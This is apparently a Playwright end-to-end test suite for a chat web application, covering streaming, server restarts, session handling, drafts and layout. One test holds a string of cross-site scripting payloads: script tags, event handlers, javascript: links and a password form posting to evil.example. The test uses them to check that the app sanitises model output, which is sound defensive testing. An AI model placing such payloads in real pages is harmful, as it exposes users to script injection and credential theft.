"""A person in front of the page."""

import re
import signal
import time

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import on_sqlite
from tests.e2e.steps import ask, choose_model
from tests.fakes.provider import Reply
from tests.server import PASSWORD

pytestmark = pytest.mark.browser
# The first use of a provider's library takes seconds on a busy machine.
expect.set_options(timeout=15_000)

SHOWN = "The answer is 42, and it comes word by word."


def answers(page: Page):
    return page.locator(".message-assistant")


def log_out_elsewhere(page: Page) -> None:
    """End the session on the server, from another tab."""
    other = page.context.new_page()
    other.goto(page.url)
    other.locator(".account summary").click()
    other.get_by_role("button", name="Log out").click()
    other.wait_for_url(re.compile("/login"))
    other.close()


def wait_for_answer(page: Page) -> None:
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_a_chat_with_both_providers_is_still_there_after_a_restart(alice, server, provider):
    page = alice
    choose_model(page, "gpt-test")
    ask(page, "What is the answer?")
    expect(answers(page)).to_have_text(re.compile(SHOWN))
    wait_for_answer(page)
    choose_model(page, "claude-test")
    ask(page, "And again?")
    expect(answers(page).nth(1)).to_have_text(re.compile(SHOWN))
    wait_for_answer(page)

    server.stop()
    server.start()
    page.reload()

    expect(page.locator(".message-user")).to_have_text(
        [re.compile("What is the answer\\?"), re.compile("And again\\?")]
    )
    expect(answers(page)).to_have_text([re.compile(SHOWN), re.compile(SHOWN)])
    expect(answers(page).first.locator("strong")).to_have_text("word by word")
    expect(page).to_have_title("What is the answer? – Chatcore")
    assert [request.path for request in provider.requests] == [
        "/v1/chat/completions",
        "/v1/messages",
    ]
    assert server.line == f"Chatcore is running: {server.url}/"


def test_an_answer_streams_in_and_goes_on_after_a_reload(alice, provider):
    page = alice
    provider.reply_with(Reply(text=" ".join(f"w{n}" for n in range(100)), delay=0.03))

    ask(page, "Count.")
    expect(answers(page)).to_have_text(re.compile(r"w5\b"))
    expect(answers(page)).not_to_have_text(re.compile(r"w99\b"))
    expect(page).to_have_url(re.compile(r"/c/[0-9a-f]{32}$"))
    page.reload()

    expect(answers(page)).to_have_text(re.compile(r"w0 w1 .* w99\b"))
    wait_for_answer(page)
    shown = page.locator(".message-assistant .message-body").inner_text()
    assert shown.split() == [f"w{n}" for n in range(100)]
    assert len(provider.requests) == 1


def test_a_killed_server_keeps_what_it_had_written(alice, server, provider):
    page = alice
    provider.reply_with(Reply(text=" ".join(f"w{n}" for n in range(400)), delay=0.02))
    ask(page, "Count.")
    expect(answers(page)).to_have_text(re.compile(r"w100\b"))

    server.stop(signal.SIGKILL)
    expect(page.locator("#banner")).to_contain_text("The connection is lost")
    server.start()

    # The page comes back by itself, and ten seconds of silence end the answer.
    expect(page.get_by_text("This answer was interrupted")).to_be_visible(timeout=30_000)
    kept = answers(page).locator(".message-body").inner_text().split()
    assert kept == [f"w{n}" for n in range(len(kept))]
    # It was saved every second, 50 words each: at most one save is missing.
    assert len(kept) > 45


def test_a_server_that_is_stopped_saves_every_word_first(alice, server, provider):
    page = alice
    provider.reply_with(Reply(text=" ".join(f"w{n}" for n in range(400)), delay=0.02))
    ask(page, "Count.")
    expect(answers(page)).to_have_text(re.compile(r"w60\b"))

    server.stop(signal.SIGTERM)
    shown = answers(page).locator(".message-body").inner_text().split()
    server.start()
    page.reload()

    expect(page.get_by_text("This answer was interrupted")).to_be_visible()
    kept = answers(page).locator(".message-body").inner_text().split()
    assert kept[: len(shown)] == shown
    assert kept == [f"w{n}" for n in range(len(kept))]


@on_sqlite
@pytest.mark.parametrize("kind", [signal.SIGINT, signal.SIGTERM])
def test_a_second_signal_does_not_cut_the_saving_short(alice, server, provider, kind):
    page = alice
    provider.reply_with(Reply(text=" ".join(f"w{n}" for n in range(400)), delay=0.02))
    ask(page, "Count.")
    expect(answers(page)).to_have_text(re.compile(r"w60\b"))

    code = server.stop(kind, kind)
    shown = answers(page).locator(".message-body").inner_text().split()
    said = server.said()
    server.start()
    page.reload()

    assert code == 0
    assert said.endswith("Stopped.\n")
    expect(page.get_by_text("This answer was interrupted")).to_be_visible()
    kept = answers(page).locator(".message-body").inner_text().split()
    assert kept[: len(shown)] == shown


@on_sqlite
def test_log_out_and_in_again(alice, server):
    page = alice
    page.locator(".account summary").click()
    page.get_by_role("button", name="Log out").click()
    page.wait_for_url(f"{server.url}/login")

    page.get_by_label("E-mail").fill("alice@acme.example")
    page.get_by_label("Password").fill("wrong")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("alert")).to_have_text("E-mail and password do not match an account.")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()

    page.wait_for_url(f"{server.url}/")
    expect(page.get_by_text("What can I help with, Alice?")).to_be_visible()


@on_sqlite
def test_a_wrong_key_is_told_in_the_conversation_and_retry_answers(alice, provider):
    page = alice
    provider.reply_with(Reply(status=401, error={"error": {"message": "no", "code": "x"}}))

    ask(page, "Hello?")

    alert = answers(page).get_by_role("alert")
    expect(alert).to_contain_text("did not accept the API key. An administrator has to check")
    page.reload()
    # Still told, but not announced once more.
    expect(answers(page).locator(".notice-error")).to_contain_text("did not accept the API key")
    page.get_by_role("button", name="Retry").click()
    expect(answers(page)).to_have_text(re.compile(SHOWN))
    expect(page.locator(".message-user")).to_have_count(1)


@on_sqlite
def test_a_connection_that_breaks_keeps_the_text_and_offers_a_retry(alice, provider):
    page = alice
    provider.reply_with(Reply(cut_after=3))

    ask(page, "Hello?")

    expect(answers(page)).to_contain_text("The answer is")
    expect(answers(page).get_by_role("alert")).to_contain_text("The connection to")


@on_sqlite
def test_stop_ends_the_answer(alice, provider):
    page = alice
    provider.reply_with(Reply(text="word " * 2000, delay=0.01))
    ask(page, "Go on for ever.")
    expect(answers(page)).to_contain_text("word word")

    page.get_by_role("button", name="Stop the answer").click()

    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    wait_for_answer(page)
    assert provider.requests[0].closed.wait(5)


@on_sqlite
def test_shift_and_enter_break_the_line_and_enter_sends(alice, provider):
    page = alice
    field = page.get_by_label("Your message")
    field.press_sequentially("one")
    page.keyboard.press("Shift+Enter")
    field.press_sequentially("two")
    page.keyboard.press("Enter")

    expect(page.locator(".message-user .message-body")).to_have_text("one\ntwo")
    wait_for_answer(page)
    assert provider.requests[0].body["messages"] == [{"role": "user", "content": "one\ntwo"}]


@on_sqlite
def test_typed_text_survives_a_reload(alice):
    page = alice
    page.get_by_label("Your message").fill("Half a thought")

    page.reload()

    expect(page.get_by_label("Your message")).to_have_value("Half a thought")


@on_sqlite
def test_a_question_asked_while_the_server_is_away_is_answered_when_it_is_back(alice, server):
    page = alice
    server.stop(signal.SIGKILL)
    ask(page, "Anybody there?")
    expect(page.locator(".message-user.is-pending")).to_be_visible()

    server.start()

    expect(answers(page)).to_have_text(re.compile(SHOWN), timeout=30_000)


@on_sqlite
def test_a_reload_before_the_question_is_saved_asks_it_once(alice, server, provider):
    page = alice
    server.stop(signal.SIGKILL)
    ask(page, "Anybody there?")
    server.start()

    page.reload()

    expect(answers(page)).to_have_text(re.compile(SHOWN))
    expect(page.locator(".message-user")).to_have_count(1)
    expect(page.get_by_label("Your message")).to_have_value("")
    assert len(provider.requests) == 1


@on_sqlite
def test_a_question_that_is_saved_while_the_page_is_reloaded_is_shown(alice, provider):
    page = alice

    def come_late(route) -> None:
        made_before = route.fetch()
        # Longer than the server takes to save the question that is on its way.
        time.sleep(2)
        route.fulfill(response=made_before)

    page.get_by_label("Your message").fill("Anybody there?")
    page.evaluate("setTimeout(() => document.getElementById('composer').requestSubmit(), 500)")
    page.route("**/", come_late, times=1)

    page.reload()

    # Asked again under the same request; a page that a test hands it gets no socket of Chromium's.
    expect(page.locator(".message-user")).to_have_text(re.compile("Anybody there"))
    assert len(provider.requests) == 1


@on_sqlite
def test_a_stop_while_the_connection_is_down_is_kept(alice, server, provider):
    page = alice
    provider.reply_with(Reply(text="word " * 2000, delay=0.02))
    ask(page, "Go on for ever.")
    expect(answers(page)).to_contain_text("word word")
    # The socket is dead, though nobody has told the page.
    page.evaluate("window.dispatchEvent(new Event('offline'))")
    page.context.set_offline(True)

    page.get_by_role("button", name="Stop the answer").click()
    page.context.set_offline(False)

    expect(page.get_by_text("You stopped this answer.")).to_be_visible(timeout=30_000)


@on_sqlite
def test_only_the_last_answer_offers_a_retry(alice, provider):
    page = alice
    provider.reply_with(Reply(cut_after=2), Reply(), Reply(cut_after=2))
    for number, text in enumerate(("One?", "Two?", "Three?"), start=1):
        ask(page, text)
        expect(answers(page)).to_have_count(number)
        wait_for_answer(page)

    expect(page.get_by_role("button", name="Retry")).to_have_count(1)
    page.get_by_role("button", name="Retry").click()
    expect(answers(page).last).to_have_text(re.compile(SHOWN))
    expect(answers(page)).to_have_count(3)


@on_sqlite
def test_two_tabs_of_one_chat_see_one_answer(alice, server, provider):
    page = alice
    provider.reply_with(Reply(text=" ".join(f"w{n}" for n in range(80)), delay=0.03))
    ask(page, "Count.")
    expect(answers(page)).to_have_text(re.compile(r"w5\b"))
    other = page.context.new_page()

    other.goto(page.url)
    other.get_by_role("button", name="Stop the answer").click()

    for each in (page, other):
        expect(each.get_by_text("You stopped this answer.")).to_be_visible()
    texts = [each.locator(".message-body").last.inner_text() for each in (page, other)]
    assert texts[0] == texts[1]
    assert len(provider.requests) == 1


@on_sqlite
def test_a_frame_of_two_megabytes_is_refused_and_the_socket_lives(alice, server):
    frames = alice.evaluate(
        """url => new Promise(resolve => {
          const seen = [];
          const socket = new WebSocket(url);
          socket.onclose = ({ code }) => resolve([...seen, code]);
          socket.onmessage = ({ data }) => {
            const { type, code } = JSON.parse(data);
            seen.push(code ?? type);
            if (type === "ready") socket.send(JSON.stringify({ type: "x".repeat(2_000_000) }));
            if (type === "error") socket.send('{"type": "ping"}');
            if (type === "pong") resolve(seen);
          };
        })""",
        f"ws://localhost:{server.port}/ws/assistant",
    )

    assert frames == ["ready", "services", "too_large", "pong"]


@on_sqlite
def test_a_question_asked_after_the_session_ended_is_given_back(alice, server):
    page = alice
    log_out_elsewhere(page)

    ask(page, "Do not lose this.")

    link = page.get_by_role("link", name="Log in again")
    expect(link).to_be_visible()
    expect(page.get_by_label("Your message")).to_have_value("Do not lose this.")
    link.click()
    page.get_by_label("E-mail").fill("alice@acme.example")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_label("Your message")).to_have_value("Do not lose this.")


@on_sqlite
def test_the_next_person_at_this_browser_finds_no_draft(alice, server):
    page = alice
    page.get_by_label("Your message").fill("Alice's secret")
    log_out_elsewhere(page)
    page.reload()
    page.wait_for_url(re.compile("/login"))

    stored = page.evaluate("Object.keys(localStorage).filter(key => key.includes(':draft:'))")

    assert len(stored) == 1
    assert re.fullmatch(r"chatcore:[0-9a-f-]{36}:draft:new", stored[0])


HOSTILE = """\
<script>document.title = "owned"</script>
<img src=x onerror="document.title='owned'">
<svg onload="document.title='owned'"></svg>
<style>body { display: none }</style>
<form action="https://evil.example"><input name="password"></form>
<iframe src="https://evil.example"></iframe>
<p style="position:fixed" id="thread" class="banner" onclick="document.title='owned'">Styled</p>

[script](javascript:document.title='owned') [data](data:text/html,owned) [good](https://good.example/)
![tracker](https://evil.example/pixel.png) <javascript:alert(1)>
"""


@on_sqlite
def test_what_a_model_writes_can_do_no_harm(alice, provider):
    page = alice
    asked_elsewhere: list[str] = []
    page.on("request", lambda request: asked_elsewhere.append(request.url))
    provider.reply_with(Reply(text=HOSTILE))

    ask(page, "Be evil.")
    wait_for_answer(page)

    body = answers(page).locator(".message-body")
    expect(body).to_contain_text("<iframe src=")
    tags = body.locator("*").evaluate_all("all => all.map(each => each.tagName)")
    assert set(tags) <= {"P", "A", "BR", "SPAN"}
    names = body.locator("*").evaluate_all("all => all.flatMap(each => each.getAttributeNames())")
    assert set(names) <= {"class", "dir", "href", "rel", "target", "title"}
    links = body.locator("a").evaluate_all("all => all.map(a => [a.textContent, a.href, a.rel])")
    rel = "noopener noreferrer nofollow"
    assert [link for link in links if link[1]] == [
        ["good", "https://good.example/", rel],
        ["tracker Show image from evil.example", "https://evil.example/pixel.png", rel],
    ]
    assert page.title() != "owned"
    assert [url for url in asked_elsewhere if "evil" in url] == []


@on_sqlite
def test_a_text_too_deep_to_be_read_is_shown_as_it_is(alice, provider):
    page = alice
    provider.reply_with(Reply(text=">" * 20_000))
    ask(page, "Quote yourself.")
    wait_for_answer(page)
    ask(page, "And now?")
    expect(answers(page)).to_have_count(2)
    wait_for_answer(page)

    page.reload()

    expect(answers(page).first.locator(".plain")).to_have_text(">" * 20_000)
    expect(answers(page).nth(1)).to_have_text(re.compile(SHOWN))


@on_sqlite
def test_a_phone_shows_the_chat_and_the_list_as_a_drawer(alice, server, open_page):
    ask(alice, "What is the answer?")
    wait_for_answer(alice)
    state = alice.context.storage_state()
    page = open_page(
        viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True, storage_state=state
    )

    page.goto(alice.url)

    expect(page.get_by_role("link", name="What is the answer?")).to_be_hidden()
    page.get_by_role("button", name="Open the list of chats").click()
    expect(page.get_by_role("link", name="What is the answer?")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("link", name="What is the answer?")).to_be_hidden()
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width == 390


@on_sqlite
def test_the_first_load_is_light(alice, server):
    sizes: dict[str, int] = {}
    alice.on(
        "requestfinished",
        lambda request: sizes.update({request.url: request.sizes()["responseBodySize"]}),
    )
    client = alice.context.new_cdp_session(alice)
    client.send("Network.setCacheDisabled", {"cacheDisabled": True})

    alice.reload()
    expect(alice.get_by_label("Your message")).to_be_editable()
    alice.wait_for_load_state("networkidle")

    assert len(sizes) <= 12
    assert sum(sizes.values()) <= 150_000
